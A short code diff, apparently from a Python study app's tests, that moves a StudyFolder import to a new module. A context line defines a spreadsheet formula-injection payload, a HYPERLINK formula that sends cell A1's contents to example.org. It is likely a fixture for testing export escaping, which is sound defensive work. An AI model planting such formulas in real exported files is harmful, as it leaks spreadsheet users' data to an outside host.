@@ -9,7 +9,7 @@ from sqlalchemy import select
 
 from studyapp.database.engine import Database, sqlite_url
 from studyapp.database.tables import StudySession, Trial, Video
-from studyapp.definition.folder import StudyFolder
+from studyapp.study.folder import StudyFolder
 
 FORMULA = '=HYPERLINK("http://example.org/?" & A1, "me")'
 
